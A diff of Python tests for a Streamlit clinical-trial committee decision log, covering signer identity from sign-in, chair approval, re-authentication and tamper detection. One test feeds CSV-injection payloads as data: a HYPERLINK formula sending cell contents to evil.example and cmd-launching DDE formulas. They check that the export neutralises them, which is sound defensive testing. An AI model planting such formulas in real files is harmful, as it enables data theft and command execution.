@@ -15,7 +15,8 @@ from streamlit.testing.v1 import AppTest
 
 from smc.decision_log import ledger
 from smc.ui import pages
-from tests.helpers import ROOT, STUDIES, as_of_dates, data_cut, figures, run_app
+from smc.ui.text import WORD_JOINER
+from tests.helpers import STUDIES, TEST_ISSUER, app_test, as_of_dates, claims, data_cut, figures, run_app
 
 ESCALATION = pages.script("escalation")
 
@@ -42,7 +43,7 @@ def stored(db_path) -> list[sqlite3.Row]:
         con.close()
 
 
-def fill(at, *, word=None, level=None, rationale="", by="Dr Chair", attendees="", follows=None, supersedes=None):
+def fill(at, *, word=None, level=None, rationale="", attendees="", follows=None, supersedes=None):
     """Fill the form (word/level first: changing them resets "follows"), click Record and rerun."""
     if word is not None:
         at.selectbox(key="decision_word").set_value(word).run()
@@ -54,7 +55,6 @@ def fill(at, *, word=None, level=None, rationale="", by="Dr Chair", attendees=""
         at.selectbox(key="decision_supersedes").set_value(supersedes)
     at.text_area(key="decision_rationale").input(rationale)
     at.text_input(key="decision_attendees").input(attendees)
-    at.text_input(key="decision_by").input(by)
     at.button(key="decision_record").click().run()
     assert not at.exception, [e.message for e in at.exception]
     return at
@@ -62,7 +62,7 @@ def fill(at, *, word=None, level=None, rationale="", by="Dr Chair", attendees=""
 
 def open_escalation(study_id: str, as_of: dt.date) -> AppTest:
     """The page without run_app's no-error assertion (a broken log is an error box by design)."""
-    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    at = app_test()
     at.query_params.update({"study": study_id, "as_of": as_of.isoformat()})
     at.run()
     at.switch_page(ESCALATION).run()
@@ -130,8 +130,8 @@ def test_recorded_decisions_show_in_table_chart_and_file(fresh_db, sql):
     word, level = at.selectbox(key="decision_word").value, int(at.selectbox(key="decision_level").value)
     fill(at, attendees="A, B, C")
     assert not at.error
-    fill(at, level=other_level(sql, study_id, level), rationale="Sponsor asked <b>to wait</b> for PK",
-         by='Dr "Two" <a href="x">')
+    at.user = claims("chair", name='Dr "Two" <a href="x">')  # the signer's name is the token's, as it is
+    fill(at, level=other_level(sql, study_id, level), rationale="Sponsor asked <b>to wait</b> for PK")
     assert not at.error and at.success
 
     rows = stored(fresh_db)
@@ -152,7 +152,7 @@ def test_recorded_decisions_show_in_table_chart_and_file(fresh_db, sql):
     assert hover[6] == 'Dr "Two" &lt;a href="x"&gt;'
 
     # Correct record 2: it stays in the table, marked, and leaves the chart.
-    fill(at, supersedes=2, rationale="Corrected: the SMC followed the rule", by="Dr Chair")
+    fill(at, supersedes=2, rationale="Corrected: the SMC followed the rule")
     assert [r["supersedes"] for r in stored(fresh_db)] == [None, None, 2]
     table = decision_table(at)
     assert table.set_index("Record").loc[2, "Superseded by"] == "#3"
@@ -164,7 +164,7 @@ def test_recorded_decisions_show_in_table_chart_and_file(fresh_db, sql):
 def test_decisions_on_later_data_are_not_drawn_on_an_earlier_view(fresh_db, sql):
     study_id = "IX001"
     cut = data_cut(sql, study_id)
-    fill(run_app(study_id, cut, ESCALATION), rationale="", by="Dr Chair")
+    fill(run_app(study_id, cut, ESCALATION), rationale="")
     assert len(stored(fresh_db)) == 1
     earlier = run_app(study_id, as_of_dates(sql, study_id)[1], ESCALATION)
     assert history_decision_traces(earlier) == []
@@ -174,8 +174,8 @@ def test_decisions_on_later_data_are_not_drawn_on_an_earlier_view(fresh_db, sql)
 def test_a_tampered_log_is_shown_as_broken(fresh_db, sql):
     study_id = "IX001"
     at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
-    fill(at, by="Dr Chair")
-    fill(at, by="Dr Chair", rationale="second, a deviation", word="other")
+    fill(at)
+    fill(at, rationale="second, a deviation", word="other")
     con = sqlite3.connect(fresh_db.with_name("cut.decisions.sqlite"))
     con.executescript("DROP TRIGGER decisions_no_update; UPDATE decisions SET recorded_by = 'Mallory' WHERE id = 1;")
     con.close()
@@ -197,9 +197,9 @@ def test_the_decision_log_csv_neutralises_formulas(fresh_db, sql, monkeypatch):
 
     monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", Kept)
     study_id = "IX001"
-    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
+    at = run_app(study_id, data_cut(sql, study_id), ESCALATION, user=claims("chair", name="-2+3 ＝Dr Chair"))
     rationale = '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n@SUM(1+9)*cmd|\' /C calc\'!A0'
-    fill(at, word="other", rationale=rationale, attendees="  +cmd|' /C notepad'!A0", by="-2+3 ＝Dr Chair")
+    fill(at, word="other", rationale=rationale, attendees="  +cmd|' /C notepad'!A0")
     assert at.success and len(stored(fresh_db)) == 1
     url = managers[-1].execute_deferred(at.download_button(key="decision_csv").proto.deferred_file_id)
     data = managers[-1].read_file(Path(url).stem).content
@@ -208,5 +208,58 @@ def test_the_decision_log_csv_neutralises_formulas(fresh_db, sql, monkeypatch):
     assert record["Rationale"] == ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n"
                                    "'@SUM(1+9)*cmd|' /C calc'!A0")
     assert record["Attendees"] == "'+cmd|' /C notepad'!A0"  # stored stripped of its leading spaces
-    assert record["Recorded by"] == "'-2+3 ＝Dr Chair"
+    assert record["Signed by"] == "'-2+3 ＝Dr Chair"
     assert record["Record"] == "1" and data.decode("utf-8").splitlines()[1].startswith("1,")  # a bare number
+
+
+# --------------------------------------------------------------------------- signed by the signed-in member
+
+
+def test_the_form_shows_the_signer_from_the_sign_in_read_only(fresh_db, sql):
+    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user="member")
+    assert [t.label for t in at.text_input if "by" in t.label.lower()] == []  # no name to type
+    signer = next(m.value for m in at.markdown if m.value.startswith("**Signed by**")).replace(WORD_JOINER, "")
+    assert "Dr Ben Member" in signer and "member@smc.example" in signer and "SMC member" in signer
+    assert "*recorded as SMC member*" in signer
+    assert "Corrects record" not in [s.label for s in at.selectbox]  # only the chair supersedes
+    fill(at)
+    (row,) = stored(fresh_db)
+    assert (row["recorded_by"], row["signer_issuer"], row["signer_subject"], row["signer_email"], row["signer_role"],
+            row["signature_meaning"]) == ("Dr Ben Member", TEST_ISSUER, "member", "member@smc.example", "smc_member",
+                                          "recorded as SMC member")
+    table = decision_table(at)
+    assert table.loc[0, ["Signed by", "Role", "Meaning", "Status"]].tolist() == [
+        "Dr Ben Member", "SMC member", "recorded as SMC member", "awaiting the chair's approval"]
+
+
+def test_the_chair_approves_a_members_decision_and_the_table_says_so(fresh_db, sql):
+    cut = data_cut(sql, "IX001")
+    fill(run_app("IX001", cut, ESCALATION, user="member"))
+    at = run_app("IX001", cut, ESCALATION, user="chair")
+    assert at.selectbox(key="decision_to_approve").value == 1
+    at.button(key="decision_approve").click().run()
+    assert any("Approved #1 as #2" in s.value for s in at.success)
+    rows = stored(fresh_db)
+    assert [(r["kind"], r["approves"], r["signer_subject"], r["signature_meaning"]) for r in rows] == [
+        ("decision", None, "member", "recorded as SMC member"), ("approval", 1, "chair", "approved as SMC chair")]
+    table = decision_table(at).set_index("Record")
+    assert table.loc[1, "Status"] == "approved by the chair (#2)" and table.loc[2, "Kind"] == "approval of #1"
+    assert ledger.verify(ledger.log_path(fresh_db)) == []
+    assert any("No recorded decision awaits the chair's approval" in c.value for c in at.caption)
+
+
+def test_a_signature_without_a_fresh_sign_in_is_refused_and_offers_one(fresh_db, sql):
+    """The token's auth_time ten minutes old: the page says so and offers a new sign-in; the ledger refuses."""
+    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user=claims("chair", signed_in_s_ago=600))
+    assert any("Sign in again before you sign" in w.value for w in at.warning)
+    assert at.button(key="fresh_sign_in_record").label == "Sign in again to sign"
+    fill(at)
+    assert any("sign in again first" in e.value and "yours was 10 minute(s) ago" in e.value for e in at.error)
+    assert stored(fresh_db) == []
+
+
+@pytest.mark.parametrize("user", ["sponsor", "investigator", "datamanager", "admin"])
+def test_roles_that_do_not_decide_read_the_log_without_a_form(fresh_db, sql, user):
+    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user=user)
+    assert "decision_record" not in [b.key for b in at.button]
+    assert any("Decisions are recorded by SMC members and approved by the chair" in c.value for c in at.caption)
